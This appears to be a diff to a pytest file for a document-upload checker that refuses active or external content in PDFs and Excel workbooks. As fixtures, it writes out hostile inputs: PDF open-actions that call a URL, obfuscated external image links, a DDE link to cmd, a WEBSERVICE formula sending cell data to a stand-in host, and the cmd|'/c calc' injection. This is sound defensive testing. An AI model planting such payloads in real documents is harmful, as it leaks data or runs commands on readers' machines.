@@ -4,16 +4,21 @@ import io
 import random
 import struct
 import zipfile
+from datetime import UTC, datetime
 from zlib import crc32
 
 import pytest
+import xlsxwriter
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject
 
-from foundation.documents.apart import apart, judge_apart
+from foundation.documents.apart import admit_apart, apart, judge_apart
 from foundation.documents.contents import ContentKind, Fault, Judged, Unfit, judge
+from foundation.documents.marking import CannotBeMarked, handed_out
+from foundation.documents.watermark import Watermark
+from tests.foundation.documents.fonts import NEEDS_FONT
 from tests.foundation.documents.samples import action, jpeg, pdf, png, repacked, written, xlsx
 
 GOOD = {
@@ -25,6 +30,8 @@ GOOD = {
     ContentKind.TEXT: "庁舎のネットワーク構成の説明\n2階の機械室".encode(),
 }
 TYPES = "[Content_Types].xml"
+DRAWN = "xl/drawings/_rels/drawing9.xml.rels"
+OTHERWISE = b'<Default Extension="dat" ContentType="application/xml"/>'
 MAIN = b"spreadsheetml.sheet.main+xml"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
 EXTERNAL = (
@@ -82,6 +89,29 @@ def referred() -> bytes:
     return written(writer)
 
 
+def reckoning(formula: str) -> bytes:
+    kept = io.BytesIO()
+    with xlsxwriter.Workbook(kept, {"in_memory": True}) as book:
+        book.add_worksheet("表").write_formula("B2", f"={formula}")
+    return kept.getvalue()
+
+
+def led_on() -> DictionaryObject:
+    """Return an action that shows a page, and then calls on the web."""
+    shown = action("/GoTo", D="1")
+    shown[NameObject("/Next")] = action("/URI", URI="https://example.jp/")
+    return shown
+
+
+def elsewhere() -> bytes:
+    writer = PdfWriter()
+    stream = StreamObject()
+    stream.set_data(b"")
+    stream[NameObject("/F")] = TextStringObject("picture.bin")
+    writer.add_blank_page(100, 100)[NameObject("/X")] = writer._add_object(stream)
+    return written(writer)
+
+
 BAD = {
     "nothing": (b"", Fault.EMPTY),
     "white space": (b"  \r\n", Fault.EMPTY),
@@ -94,6 +124,20 @@ BAD = {
     "PDF that starts one by reference": (referred(), Fault.ACTIVE),
     "PDF that sends a form": (annotated(A=action("/SubmitForm", F="https://example.jp/")), Fault.ACTIVE),
     "PDF that opens another": (annotated(A=action("/GoToR", F="\\\\server\\share")), Fault.ACTIVE),
+    "PDF that calls on the web when opened": (
+        pdf(catalog={"/OpenAction": action("/URI", URI="https://example.jp/")}),
+        Fault.ACTIVE,
+    ),
+    "PDF that does more than to show a page": (pdf(catalog={"/OpenAction": led_on()}), Fault.ACTIVE),
+    "PDF that acts when a page shows": (
+        pdf(catalog={"/AA": DictionaryObject({NameObject("/O"): action("/URI", URI="https://example.jp/")})}),
+        Fault.ACTIVE,
+    ),
+    "PDF whose file is on the web": (
+        pdf(catalog={"/X": DictionaryObject({NameObject("/FS"): NameObject("/URL")})}),
+        Fault.ACTIVE,
+    ),
+    "PDF whose stream is elsewhere": (elsewhere(), Fault.ACTIVE),
     "PDF with a file in it": (attached(), Fault.EMBEDDED),
     "PDF with a file on the page": (annotated(Subtype=NameObject("/FileAttachment")), Fault.EMBEDDED),
     "PDF under a password": (pdf(password="himitsu"), Fault.ENCRYPTED),
@@ -134,6 +178,36 @@ BAD = {
             xlsx(), add={"xl/worksheets/_rels/sheet9.xml.rels": EXTERNAL % (b"hyperlink", b"file:///\\\\server\\x")}
         ),
         Fault.EXTERNAL,
+    ),
+    **{
+        f"workbook with a picture from elsewhere, {name}": (
+            repacked(
+                xlsx(), add={"xl/drawings/_rels/drawing9.xml.rels": EXTERNAL.replace(old, new) % (b"image", to)}
+            ),
+            Fault.EXTERNAL,
+        )
+        for name, old, new, to in (
+            ("called hyperlink", b"", b"", b"https://example.jp/hyperlink.png"),
+            ("spelt otherwise", b'"External"', b'"Ext&#101;rnal"', b"https://example.jp/x.png"),
+            ("behind a bracket", b'Id="rId1"', b'Id="r>Id1"', b"https://example.jp/x.png"),
+        )
+    },
+    "workbook that starts a program": (
+        repacked(xlsx(), add={"xl/x.xml": b'<a-b:x xmlns:a-b="urn:x"><a-b:ddeLink ddeService="cmd"/></a-b:x>'}),
+        Fault.EXTERNAL,
+    ),
+    **{
+        f"workbook that reckons {formula}": (reckoning(formula), Fault.EXTERNAL)
+        for formula in (
+            'WEBSERVICE("https://example.jp/?"&A1)',
+            '_xlfn.IMAGE("https://example.jp/x.png")',
+            'IF(1,rtd ("x.y",,"z"))',
+            "cmd|'/c calc'!A1",
+        )
+    },
+    "workbook whose part is called otherwise": (
+        repacked(xlsx(), edit={TYPES: (b"</Types>", OTHERWISE + b"</Types>")}),
+        Fault.DAMAGED,
     ),
     "workbook with an entity": (
         repacked(xlsx(), edit={"xl/workbook.xml": (b"<workbook", b'<!DOCTYPE x [<!ENTITY a "b">]><workbook')}),
@@ -178,12 +252,48 @@ def test_what_is_not_passive_whole_and_alone_is_refused(name: str) -> None:
 def test_every_fault_says_what_to_do_in_both_languages() -> None:
     assert all("ください。" in each.ja for each in Fault)
     assert len({each.en for each in Fault}) == len(Fault)
-    assert set(Fault) - {found for _, found in BAD.values()} == {Fault.TOO_COMPLEX}
+    assert set(Fault) - {found for _, found in BAD.values()} == {Fault.TOO_COMPLEX, Fault.UNMARKABLE}
 
 
 def test_links_to_the_web_and_to_pages_are_no_harm() -> None:
     web = annotated(Subtype=NameObject("/Link"), A=action("/URI", URI="https://example.jp/"))
     assert judge(web).kind is ContentKind.PDF
+
+
+def test_a_document_may_open_at_one_of_its_pages() -> None:
+    assert judge(pdf(catalog={"/OpenAction": action("/GoTo", D="1")})).kind is ContentKind.PDF
+
+
+@pytest.mark.parametrize("formula", ['"WEBSERVICE(1)|"&A1', "MYIMAGE(A1)", "SUM('図 (1)'!A1:B2)"])
+def test_a_formula_that_stays_in_its_book_is_no_harm(formula: str) -> None:
+    assert judge(reckoning(formula)).kind is ContentKind.XLSX
+
+
+def test_what_stands_beside_the_cells_of_a_workbook_is_told() -> None:
+    kept = io.BytesIO()
+    with xlsxwriter.Workbook(kept, {"in_memory": True}) as book:
+        sheet = book.add_worksheet("表")
+        sheet.write_comment("A1", "password: Comment123")
+        sheet.insert_textbox(2, 2, "password: Drawing123")
+        sheet.insert_image(9, 0, "図.png", {"image_data": io.BytesIO(png()), "description": "password: Picture123"})
+        sheet.set_header("&Lpassword: Header123&Rx")
+        book.set_properties({"comments": "password: Property123"})
+        book.set_custom_property("パスワード", "Custom123")
+    told = judge(kept.getvalue()).text
+    assert all(f"password: {each}123\n" in told for each in ("Comment", "Drawing", "Picture", "Header", "Property"))
+    assert "パスワード\nCustom123" in told
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        annotated(Subtype=NameObject("/FreeText"), Contents=TextStringObject("パスワード\nZq3xW9aa")),
+        annotated(V=TextStringObject("Zq3xW9aa"), DA=TextStringObject("0 g"), T=TextStringObject("パスワード")),
+    ],
+    ids=["note", "field"],
+)
+def test_so_is_what_stands_upon_the_pages_of_a_pdf(content: bytes) -> None:
+    assert "パスワード\nZq3xW9aa" in judge(content).text
 
 
 def test_the_text_is_found_wherever_it_stands() -> None:
@@ -241,3 +351,43 @@ async def test_what_takes_too_much_apart_is_too_complex(monkeypatch: pytest.Monk
         with pytest.raises(Unfit) as refused:
             await apart(task, png())
         assert refused.value.fault is Fault.TOO_COMPLEX
+
+
+def turned_aslant() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(100, 100)[NameObject("/Rotate")] = NumberObject(45)
+    return written(writer)
+
+
+def swelling(size: int) -> bytes:
+    """Return a small PDF whose page is a long stream, which is written in full when it is marked."""
+    writer = PdfWriter()
+    stream = StreamObject()
+    stream.set_data(b"/" + b"x" * size + b" gs")
+    long = writer._add_object(stream.flate_encode())
+    writer.add_blank_page(100, 100)[NameObject("/Contents")] = long
+    return written(writer)
+
+
+@NEEDS_FONT
+@pytest.mark.parametrize(
+    ("content", "expected"),
+    [(turned_aslant(), Fault.UNMARKABLE), (swelling(18_000_000), Fault.TOO_COMPLEX)],
+    ids=["aslant", "swelling"],
+)
+async def test_what_can_not_be_marked_is_refused_when_it_comes(content: bytes, expected: Fault) -> None:
+    assert fault(content) is None
+    with pytest.raises(Unfit) as refused:
+        await admit_apart(content)
+    assert refused.value.fault is expected
+
+
+async def test_a_file_is_marked_apart(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Never in the service's own process, which such a file could keep busy."""
+    monkeypatch.setattr("foundation.documents.workbooks.stamp_workbook", None)
+    mark = Watermark("髙﨑", "𠮷野市", datetime(2026, 11, 22, 5, 5, tzinfo=UTC), "261122-K7M2-9QXD")
+    kind, content = await handed_out(ContentKind.XLSX, xlsx(), mark)
+    assert (kind, judge(content).kind) == (ContentKind.XLSX, ContentKind.XLSX)
+    monkeypatch.setattr("foundation.documents.apart.PATIENCE", 0.001)
+    with pytest.raises(CannotBeMarked):
+        await handed_out(ContentKind.XLSX, xlsx(), mark)
